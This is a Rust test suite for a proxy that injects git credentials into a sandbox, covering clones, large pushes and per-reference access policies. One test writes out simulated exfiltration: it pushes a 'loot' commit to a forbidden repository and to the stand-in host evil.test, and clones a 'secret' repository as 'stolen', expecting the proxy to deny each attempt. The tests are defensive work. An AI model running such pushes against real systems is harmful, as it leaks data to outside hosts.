//! git over smart HTTP as a sandbox: it holds no credential, the proxy presents it as Basic.

#![cfg(test)]

#[expect(dead_code, unused_imports, reason = "every test file uses its part of the world")]
mod world;

use std::path::{Path, PathBuf};
use std::process::Command;
use tempfile::TempDir;
use world::{Client, Inject, PseudoRandom, RunningWorld, Service, Upstream, World, is_denial};

const PACK_BYTES: u64 = 100_000_000;
/// What the proxy may grow by while a pack of 100 MB passes.
const GROWTH_KIB_MAX: u64 = 32 * 1024;
const VERSIONS: [&str; 2] = ["HTTP/1.1", "HTTP/2"];

const ROUTES: &str = r#"
  { name = "refs", methods = ["GET"], paths = ["/acme/app.git/info/refs"] },
  { name = "packs", methods = ["POST"], paths = ["/acme/app.git/git-upload-pack", "/acme/app.git/git-receive-pack"] },
"#;

/// Reading everything, and pushing to branches below `feature/`.
const FEATURE_ROUTES: &str = r#"
  { name = "read", paths = ["/acme/app.git/**"], git = { service = "upload-pack" } },
  { name = "push", paths = ["/acme/app.git/**"], git = { service = "receive-pack", refs = "refs/heads/feature/**", update = ["create", "update", "force"] } },
"#;
const READ_ROUTES: &str = r#"
  { name = "read", paths = ["/acme/app.git/**"], git = { service = "upload-pack" } },
"#;

/// Two bare repositories with one commit each, and the world in front of them.
fn world() -> (RunningWorld, TempDir) {
    world_with(ROUTES)
}

fn world_with(routes: &str) -> (RunningWorld, TempDir) {
    let root = TempDir::new().expect("a temporary directory");
    for name in ["app", "secret"] {
        let bare = root.path().join(format!("acme/{name}.git"));
        local(root.path(), &["init", "-q", "--bare", "-b", "main", &bare.display().to_string()]);
        commit_upstream(root.path(), name, "README.md", "The gate.\n");
    }
    let inject = Inject::Basic { username: "x-access-token".to_owned() };
    let upstream = Upstream::new("git", Service::Git(root.path().to_owned())).inject(inject);
    (World::new().upstream(upstream).allow("git", routes).start(), root)
}

/// Adds a commit to a repository without the proxy, as somebody else would.
fn commit_upstream(root: &Path, name: &str, file: &str, text: &str) {
    let work = TempDir::new().expect("a temporary directory");
    let bare = root.join(format!("acme/{name}.git")).display().to_string();
    local(work.path(), &["clone", "-q", &bare, "."]);
    local(work.path(), &["checkout", "-q", "-B", "main"]);
    std::fs::write(work.path().join(file), text).expect("a writable directory");
    local(work.path(), &["add", "."]);
    local(work.path(), &["commit", "-q", "-m", file]);
    local(work.path(), &["push", "-q", "origin", "main"]);
}

/// git outside of the sandbox, on files.
fn local(directory: &Path, arguments: &[&str]) -> String {
    let mut git = Command::new("git");
    git.current_dir(directory).args(arguments).envs(IDENTITY).env("HOME", directory);
    let output = git.output().expect("git runs (tests/prepare installs it)");
    assert!(
        output.status.success(),
        "git {arguments:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

const IDENTITY: [(&str, &str); 5] = [
    ("GIT_AUTHOR_NAME", "Sally"),
    ("GIT_AUTHOR_EMAIL", "sally@git.test"),
    ("GIT_COMMITTER_NAME", "Sally"),
    ("GIT_COMMITTER_EMAIL", "sally@git.test"),
    ("GIT_CONFIG_NOSYSTEM", "1"),
];

/// git in the sandbox: it may not ask for a password, and has none.
fn git<'w>(world: &'w RunningWorld, directory: &Path, version: &str) -> Client<'w> {
    let mut git = world.client("git").directory(directory).env("GIT_TERMINAL_PROMPT", "0");
    for (name, value) in IDENTITY {
        git = git.env(name, value);
    }
    git.args(["-c", &format!("http.version={version}")])
}

/// `HTTP-2`, for names of files.
fn slug(version: &str) -> String {
    version.replace('/', "-")
}

fn clone(world: &RunningWorld, version: &str) -> PathBuf {
    let work = world.home().join(slug(version));
    let clone = git(world, &world.home(), version);
    clone.args(["clone", "-q", "https://git.test/acme/app.git"]).arg(&work).run().succeeded();
    work
}

#[test]
fn git_clones_and_fetches_with_a_credential_that_it_does_not_hold() {
    let (world, root) = world();
    for version in VERSIONS {
        let work = clone(&world, version);
        let readme = std::fs::read_to_string(work.join("README.md")).expect("a working tree");
        assert_eq!(readme, "The gate.\n");

        commit_upstream(root.path(), "app", &format!("by-another-{}", slug(version)), version);
        let head = local(&root.path().join("acme/app.git"), &["rev-parse", "main"]);
        git(&world, &work, version).args(["fetch", "-q"]).run().succeeded();
        assert_eq!(local(&work, &["rev-parse", "origin/main"]), head);
    }
    world.upstream("git").assert_always_authenticated();
    world.check_invariants();
}

#[test]
fn git_pushes_a_pack_of_100_mb_that_is_never_held_whole() {
    let (mut world, root) = world();
    for version in VERSIONS {
        let work = clone(&world, version);
        let file: Vec<u8> = PseudoRandom::new(PACK_BYTES).flatten().collect();
        let name = format!("pack-{}", slug(version));
        std::fs::write(work.join(&name), file).expect("a writable home");
        let fast = ["-c", "core.compression=0", "-c", "core.bigFileThreshold=1m"];
        local(&work, &[&fast[..], &["add", &name]].concat());
        local(&work, &["commit", "-q", "-m", &name]);

        let before = world.process().memory_kib();
        world.process().reset_memory_peak();
        let push = git(&world, &work, version).args(fast);
        push.args(["push", "-q", "origin", "HEAD:main"]).run().succeeded();
        let growth = world.process().memory_peak_kib().saturating_sub(before);
        assert!(growth < GROWTH_KIB_MAX, "{version}: grew by {growth} KiB");

        let head = local(&work, &["rev-parse", "HEAD"]);
        assert_eq!(local(&root.path().join("acme/app.git"), &["rev-parse", "main"]), head);
        local(&root.path().join("acme/app.git"), &["fsck", "--full"]);
        let seen = world.upstream("git").seen();
        let is_pack = |seen: &&world::Seen| seen.body_bytes > PACK_BYTES;
        let pack = seen.iter().rev().find(is_pack).expect("the pack arrived");
        assert_eq!(pack.header("content-length"), None, "git does not know its length");
        // The next clone starts small again.
        local(&root.path().join("acme/app.git"), &["update-ref", "refs/heads/main", "HEAD~1"]);
    }
    world.check_invariants();
}

#[test]
fn git_shows_why_it_may_not_use_a_repository_outside_the_policy() {
    let (world, root) = world();
    let work = clone(&world, "HTTP/1.1");
    std::fs::write(work.join("loot"), "out it goes").expect("a writable home");
    local(&work, &["add", "."]);
    local(&work, &["commit", "-q", "-m", "loot"]);
    let before = local(&root.path().join("acme/secret.git"), &["rev-parse", "main"]);
    for version in VERSIONS {
        for (arguments, host) in [
            (["push", "https://git.test/acme/secret.git", "HEAD:main"], "git.test"),
            (["clone", "https://git.test/acme/secret.git", "stolen"], "git.test"),
            (["push", "https://evil.test/acme/app.git", "HEAD:main"], "evil.test"),
        ] {
            git(&world, &work, version).args(arguments).run().failed().shows_denial("no_route");
            world.audit_line("the denial", |line| is_denial(line, host, "no_route"));
        }
    }
    assert_eq!(local(&root.path().join("acme/secret.git"), &["rev-parse", "main"]), before);
    assert!(world.upstream("git").seen().iter().all(|seen| !seen.path.contains("secret")));
    world.check_invariants();
}

/// Commits a new file with so many incompressible bytes.
fn commit(work: &Path, name: &str, bytes: u64) {
    let content: Vec<u8> = PseudoRandom::new(bytes).flatten().collect();
    std::fs::write(work.join(name), content).expect("a writable home");
    local(work, &["add", name]);
    local(work, &["commit", "-q", "-m", name]);
}

/// What arrived at the upstream to be written.
fn pushes(world: &RunningWorld) -> usize {
    let is_push =
        |seen: &&world::Seen| seen.method == "POST" && seen.path.ends_with("/git-receive-pack");
    world.upstream("git").seen().iter().filter(is_push).count()
}

#[test]
fn a_fetch_only_route_clones_and_fetches_in_every_version_of_the_protocol_and_never_pushes() {
    let (world, root) = world_with(READ_ROUTES);
    let before = local(&root.path().join("acme/app.git"), &["rev-parse", "main"]);
    for version in VERSIONS {
        for protocol in ["0", "1", "2"] {
            let work = world.home().join(format!("{}-{protocol}", slug(version)));
            let clone = git(&world, &world.home(), version)
                .args(["-c", &format!("protocol.version={protocol}")]);
            clone
                .args(["clone", "-q", "https://git.test/acme/app.git"])
                .arg(&work)
                .run()
                .succeeded();
            git(&world, &work, version).args(["fetch", "-q"]).run().succeeded();
        }
        let work = world.home().join(format!("{}-2", slug(version)));
        commit(&work, "loot", 1000);
        let push = git(&world, &work, version).args(["push", "origin", "HEAD:main"]).run().failed();
        push.shows_denial("no_route");
    }
    assert_eq!(pushes(&world), 0);
    assert_eq!(local(&root.path().join("acme/app.git"), &["rev-parse", "main"]), before);
    world.check_invariants();
}

#[test]
fn a_push_inside_of_the_allowed_references_arrives_at_every_size() {
    let (world, root) = world_with(FEATURE_ROUTES);
    for version in VERSIONS {
        let work = clone(&world, version);
        // In one read; larger than what is kept for a replay; without a length.
        for (at, bytes) in [100, 300_000, 3_000_000].into_iter().enumerate() {
            let name = format!("{}-{at}", slug(version));
            commit(&work, &name, bytes);
            let target = format!("HEAD:refs/heads/feature/{}", slug(version));
            git(&world, &work, version).args(["push", "-q", "origin", &target]).run().succeeded();
            let head = local(&work, &["rev-parse", "HEAD"]);
            let there = format!("feature/{}", slug(version));
            assert_eq!(local(&root.path().join("acme/app.git"), &["rev-parse", &there]), head);
        }
    }
    local(&root.path().join("acme/app.git"), &["fsck", "--full"]);
    world.upstream("git").assert_always_authenticated();
    world.check_invariants();
}

#[test]
fn git_shows_why_a_push_outside_of_the_allowed_references_is_refused() {
    let (world, root) = world_with(FEATURE_ROUTES);
    let bare = root.path().join("acme/app.git");
    local(&bare, &["update-ref", "refs/heads/feature/old", "main"]);
    let before = local(&bare, &["for-each-ref"]);
    for version in VERSIONS {
        let work = clone(&world, version);
        for (at, bytes) in [100, 3_000_000].into_iter().enumerate() {
            commit(&work, &format!("{}-{at}", slug(version)), bytes);
            for references in [
                &["HEAD:refs/heads/main"][..],
                &["+HEAD:refs/heads/main"],
                &["HEAD:refs/heads/featured"],
                &["HEAD:refs/tags/v1"],
                &[":refs/heads/feature/old"],
                &[":refs/heads/main"],
                &["HEAD:refs/heads/feature/new", "HEAD:refs/heads/main"],
                &["HEAD:refs/heads/feature/new", ":refs/heads/feature/old"],
            ] {
                let push = git(&world, &work, version).args(["push", "origin"]).args(references);
                let push = push.run().failed();
                push.shows_denial("no_route");
                assert!(
                    push.stderr.contains("[remote rejected]"),
                    "{version} {references:?} {push}"
                );
                assert!(
                    push.stderr.contains("remote: sallygate: "),
                    "{version} {references:?} {push}"
                );
            }
        }
    }
    world.audit_line("the denial", |line| is_denial(line, "git.test", "no_route"));
    assert_eq!(local(&bare, &["for-each-ref"]), before);
    // Large pushes begin with an attempt that carries nothing, and that is all that arrives.
    let is_push =
        |seen: &&world::Seen| seen.path.ends_with("/git-receive-pack") && seen.body_bytes > 4;
    assert_eq!(world.upstream("git").seen().iter().filter(is_push).count(), 0);
    world.check_invariants();
}

/// Reading some references and no others.
const SOME_REFERENCES: &str = r#"
  { name = "read", paths = ["/acme/app.git/**", "/old/app.git/**"], git = { service = "upload-pack", refs = ["refs/heads/main", "refs/heads/feature/**", "refs/tags/*"] } },
"#;
/// Reading everything but one reference.
const ALL_BUT_ONE: &str = r#"
  { name = "read", paths = ["/acme/app.git/**", "/old/app.git/**"], git = { service = "upload-pack" } },
  { name = "hide", action = "deny", reason = "not this branch", paths = ["/**"], git = { service = "upload-pack", refs = "refs/heads/secret" } },
"#;
/// More branches than fit into a request that git does not compress.
const BRANCHES: usize = 60;

/// A repository with branches that may be read and one that may not; the id of that one's commit.
fn world_with_a_secret(routes: &str) -> (RunningWorld, TempDir, String) {
    let (world, root) = world_with(routes);
    let bare = root.path().join("acme/app.git");
    let tree = local(&bare, &["rev-parse", "main^{tree}"]);
    let commit = |message: &str| local(&bare, &["commit-tree", &tree, "-p", "main", "-m", message]);
    for at in 0..BRANCHES {
        let branch = format!("refs/heads/feature/{at}");
        local(&bare, &["update-ref", &branch, &commit(&branch)]);
    }
    let secret = commit("secret");
    local(&bare, &["update-ref", "refs/heads/secret", &secret]);
    std::fs::create_dir(root.path().join("old")).expect("a writable directory");
    let old = root.path().join("old/app.git").display().to_string();
    local(root.path(), &["clone", "-q", "--mirror", &bare.display().to_string(), &old]);
    (world, root, secret)
}

/// Whether a repository has an object.
fn has(work: &Path, object: &str) -> bool {
    let mut git = Command::new("git");
    git.current_dir(work).args(["cat-file", "-e", object]);
    git.output().expect("git runs").status.success()
}

#[test]
fn a_fetch_is_shown_the_references_that_it_may_have_and_gets_no_others() {
    for (routes, branches) in [(SOME_REFERENCES, BRANCHES + 1), (ALL_BUT_ONE, BRANCHES + 1)] {
        let (world, root, secret) = world_with_a_secret(routes);
        for version in VERSIONS {
            let work = clone(&world, version);
            let shown = local(&work, &["for-each-ref", "--format=%(refname)", "refs/remotes"]);
            let shown: Vec<&str> = shown.lines().filter(|name| !name.ends_with("/HEAD")).collect();
            assert_eq!(shown.len(), branches, "{shown:?}");
            assert!(!shown.iter().any(|name| name.contains("secret")), "{shown:?}");
            assert!(!has(&work, &secret));

            let listed = git(&world, &work, version).args(["ls-remote", "origin"]);
            let listed = listed.run().succeeded();
            assert!(listed.stdout.contains("refs/heads/feature/0"), "{listed}");
            assert!(
                !listed.stdout.contains(&secret) && !listed.stdout.contains("secret"),
                "{listed}"
            );

            // What comes later is listed before it is fetched.
            commit_upstream(root.path(), "app", &format!("later-{}", slug(version)), version);
            git(&world, &work, version).args(["fetch", "-q"]).run().succeeded();
            let head = local(&root.path().join("acme/app.git"), &["rev-parse", "main"]);
            assert_eq!(local(&work, &["rev-parse", "origin/main"]), head);
            let shallow = git(&world, &world.home(), version).args(["clone", "-q", "--depth", "1"]);
            let directory = format!("shallow-{}", slug(version));
            shallow.args(["https://git.test/acme/app.git", &directory]).run().succeeded();
        }
        let compressed = |seen: &&world::Seen| seen.header("content-encoding") == Some("gzip");
        assert!(world.upstream("git").seen().iter().any(|seen| compressed(&seen)));
        world.check_invariants();
    }
}

#[test]
fn an_object_that_no_allowed_reference_showed_is_not_fetched_by_its_id() {
    for routes in [SOME_REFERENCES, ALL_BUT_ONE] {
        let (world, _root, secret) = world_with_a_secret(routes);
        for version in VERSIONS {
            let work = clone(&world, version);
            for arguments in [&["fetch", "origin"][..], &["fetch", "--depth=1", "origin"]] {
                let fetch = git(&world, &work, version).args(arguments).args([&secret]);
                let fetch = fetch.run().failed();
                assert!(fetch.stderr.contains("remote error: sallygate: "), "{fetch}");
                assert!(!has(&work, &secret));
            }
            let code = if routes == SOME_REFERENCES { "no_route" } else { "denied" };
            world.audit_line("the denial", |line| is_denial(line, "git.test", code));
            let fetch = git(&world, &work, version).args(["fetch", "origin", "secret"]);
            let fetch = fetch.run().failed();
            assert!(fetch.stderr.contains("couldn't find remote ref secret"), "{fetch}");
        }
        let wanted = |seen: &world::Seen| seen.path.ends_with("/git-upload-pack");
        assert!(world.upstream("git").seen().iter().any(wanted));
        world.check_invariants();
    }
}

#[test]
fn references_are_told_apart_in_version_2_of_the_protocol_only() {
    for routes in [SOME_REFERENCES, ALL_BUT_ONE] {
        let (world, _root, _secret) = world_with_a_secret(routes);
        for version in VERSIONS {
            for protocol in ["0", "1"] {
                let clone = git(&world, &world.home(), version)
                    .args(["-c", &format!("protocol.version={protocol}")])
                    .args(["clone", "-q", "https://git.test/acme/app.git", "stolen"]);
                let clone = clone.run().failed();
                clone.shows_denial(if routes == SOME_REFERENCES { "no_route" } else { "denied" });
                assert!(clone.stderr.contains("version 2 of git's protocol"), "{clone}");
            }
            // The upstream was asked for version 2, and answers with all that it has.
            let old = git(&world, &world.home(), version).args([
                "clone",
                "-q",
                "https://git.test/old/app.git",
                "stolen",
            ]);
            let old = old.run().failed();
            assert!(old.stderr.contains("remote error: sallygate: the upstream does not"), "{old}");
            assert!(!old.stderr.contains("secret"), "{old}");
        }
        world.check_invariants();
    }
}
